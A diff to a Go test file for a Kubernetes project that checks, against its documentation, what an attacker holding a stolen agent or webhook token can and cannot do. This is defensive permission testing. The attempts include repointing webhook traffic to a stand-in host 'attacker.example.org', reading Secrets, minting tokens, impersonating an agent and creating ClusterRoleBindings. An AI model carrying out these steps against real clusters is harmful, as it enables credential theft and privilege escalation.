@@ -2,13 +2,13 @@ package policies
 
 import (
 	"fmt"
-	"os"
 	"slices"
-	"strings"
 	"testing"
 
+	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
 	appsv1 "k8s.io/api/apps/v1"
 	authenticationv1 "k8s.io/api/authentication/v1"
+	authorizationv1 "k8s.io/api/authorization/v1"
 	corev1 "k8s.io/api/core/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -29,30 +29,11 @@ func TestWhatAStolenTokenCanDo(t *testing.T) {
 	server.Kubectl(t, "label", "namespace", closed, "krake.dev/closed-to-agents=true")
 	awaitClosed(t, closed)
 	thief := newThief(t, open, guarded, closed)
-	var lines []string
+	var attempts []kit.Attempt
 	for _, a := range slices.Concat(thief.can(t), thief.cannot(t)) {
-		said := "can"
-		if !a.want {
-			said = "cannot"
-		}
-		lines = append(lines, a.what+": "+said)
-		t.Run(a.what, func(t *testing.T) { checkAttempts(t, []attempt{a}) })
+		attempts = append(attempts, kit.Attempt{What: a.what, Try: a.try, Can: a.want})
 	}
-	page, err := os.ReadFile("../../docs/stolen-token.md")
-	kit.Must(t, err)
-	_, section, _ := strings.Cut(string(page), "## The default installation")
-	section, _, _ = strings.Cut(section, "\n## ")
-	var told []string
-	for line := range strings.SplitSeq(section, "\n") {
-		cells := strings.Split(strings.Trim(line, "| "), " | ")
-		if len(cells) == 2 && strings.HasPrefix(cells[1], "can") {
-			said, _, _ := strings.Cut(cells[1], ":")
-			told = append(told, cells[0]+": "+said)
-		}
-	}
-	if !slices.Equal(lines, told) {
-		t.Errorf("the page tells\n%s\nand tried was\n%s", strings.Join(told, "\n"), strings.Join(lines, "\n"))
-	}
+	kit.Attempts(t, "The default installation", attempts)
 }
 
 // thief is a client with the token of agent local, and the targets of the attempts: a namespace without
@@ -249,4 +230,82 @@ func (s thief) cannot(t *testing.T) []attempt {
 			return kit.ErrorOf(s.client.CoordinationV1().Leases("krake-agents").Create(ctx, lease("krake-cluster-other"), metav1.CreateOptions{}))
 		}, false},
 	}
+}
+
+// What an attacker with the token of the webhook can do, line by line as docs/stolen-token.md has it.
+func TestWhatAStolenTokenOfTheWebhookCanDo(t *testing.T) {
+	ctx, namespace := t.Context(), newNamespace(t)
+	admitted(t, namespace)
+	t.Cleanup(func() { letGo(t, namespace) })
+	theirSecret(t, namespace)
+	webhook := identity{namespace: "krake-system", name: "krake-webhook"}
+	client := webhook.mustClient(t)
+	core, admission := client.CoreV1(), client.AdmissionregistrationV1()
+	withoutRequests(t)
+	kit.Attempts(t, "The webhook", []kit.Attempt{
+		{What: "reads the keys of its certificates", Can: true, Try: func() error {
+			return kit.ErrorOf(core.Secrets("krake-system").Get(ctx, "krake-webhook-certificate", metav1.GetOptions{}))
+		}},
+		{What: "asks what any user may do", Can: true, Try: func() error {
+			return kit.ErrorOf(client.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{
+				Spec: authorizationv1.SubjectAccessReviewSpec{User: "anna", ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "get", Resource: "secrets"}},
+			}, metav1.CreateOptions{}))
+		}},
+		{What: "asks whose a token is", Can: true, Try: func() error {
+			return kit.ErrorOf(client.AuthenticationV1().TokenReviews().Create(ctx, &authenticationv1.TokenReview{
+				Spec: authenticationv1.TokenReviewSpec{Token: "x"},
+			}, metav1.CreateOptions{}))
+		}},
+		{What: "tries with a dry run whether a Pod would be accepted", Can: true, Try: func() error {
+			return kit.ErrorOf(core.ConfigMaps(namespace).Create(ctx, plain(namespace, "x"), metav1.CreateOptions{DryRun: dry}))
+		}},
+		{What: "replaces the CA of its configuration", Can: true, Try: func() error {
+			return configure(t, webhook, `[{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "eA=="}]`)
+		}},
+		{What: "has requests sent to another place", Try: func() error {
+			return configure(t, webhook, `[{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
+				{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.org"}]`)
+		}},
+		{What: "has requests about other objects sent to it", Try: func() error {
+			return configure(t, webhook, `[{"op": "add", "path": "/webhooks/0/rules/0/resources/-", "value": "secrets"}]`)
+		}},
+		{What: "changes another webhook configuration", Try: func() error {
+			return kit.ErrorOf(admission.ValidatingWebhookConfigurations().Patch(ctx, "krake-guard", types.MergePatchType, []byte(`{}`), metav1.PatchOptions{}))
+		}},
+		{What: "creates a webhook configuration", Try: func() error {
+			return kit.ErrorOf(admission.MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
+				ObjectMeta: metav1.ObjectMeta{Name: "another"},
+			}, metav1.CreateOptions{}))
+		}},
+		{What: "deletes its configuration", Try: func() error {
+			return admission.MutatingWebhookConfigurations().Delete(ctx, "krake-webhook", metav1.DeleteOptions{})
+		}},
+		{What: "changes the policies", Try: func() error {
+			return admission.ValidatingAdmissionPolicyBindings().Delete(ctx, "krake-configmaps", metav1.DeleteOptions{})
+		}},
+		{What: "lists ConfigMaps", Try: func() error { return kit.ErrorOf(core.ConfigMaps("").List(ctx, metav1.ListOptions{})) }},
+		{What: "creates an Application", Try: func() error {
+			return kit.ErrorOf(core.ConfigMaps(namespace).Create(ctx, with(plain(namespace, "x"), annotated), metav1.CreateOptions{}))
+		}},
+		{What: "changes an Application", Try: func() error {
+			return kit.ErrorOf(core.ConfigMaps(namespace).Patch(ctx, "app", types.MergePatchType, []byte(`{"data": {"spec.manifest": "[1]"}}`), metav1.PatchOptions{}))
+		}},
+		{What: "deletes an Application", Try: func() error { return core.ConfigMaps(namespace).Delete(ctx, "app", metav1.DeleteOptions{}) }},
+		{What: "creates a Deployment", Try: func() error {
+			return kit.ErrorOf(client.AppsV1().Deployments(namespace).Create(ctx, deploymentNamed("x"), metav1.CreateOptions{}))
+		}},
+		{What: "reads another Secret", Try: func() error { return kit.ErrorOf(core.Secrets(namespace).Get(ctx, "theirs", metav1.GetOptions{})) }},
+		{What: "lists the Secrets of its namespace", Try: func() error { return kit.ErrorOf(core.Secrets("krake-system").List(ctx, metav1.ListOptions{})) }},
+		{What: "creates a token of a service account", Try: func() error {
+			return kit.ErrorOf(core.ServiceAccounts("krake-agents").CreateToken(ctx, "local", &authenticationv1.TokenRequest{}, metav1.CreateOptions{}))
+		}},
+		{What: "acts as an agent", Try: func() error {
+			as := webhook
+			as.as = "system:serviceaccount:krake-agents:local"
+			return kit.ErrorOf(as.mustClient(t).CoreV1().ConfigMaps(namespace).List(ctx, metav1.ListOptions{}))
+		}},
+		{What: "creates a ClusterRoleBinding", Try: func() error {
+			return kit.ErrorOf(client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "x"}}, metav1.CreateOptions{}))
+		}},
+	})
 }
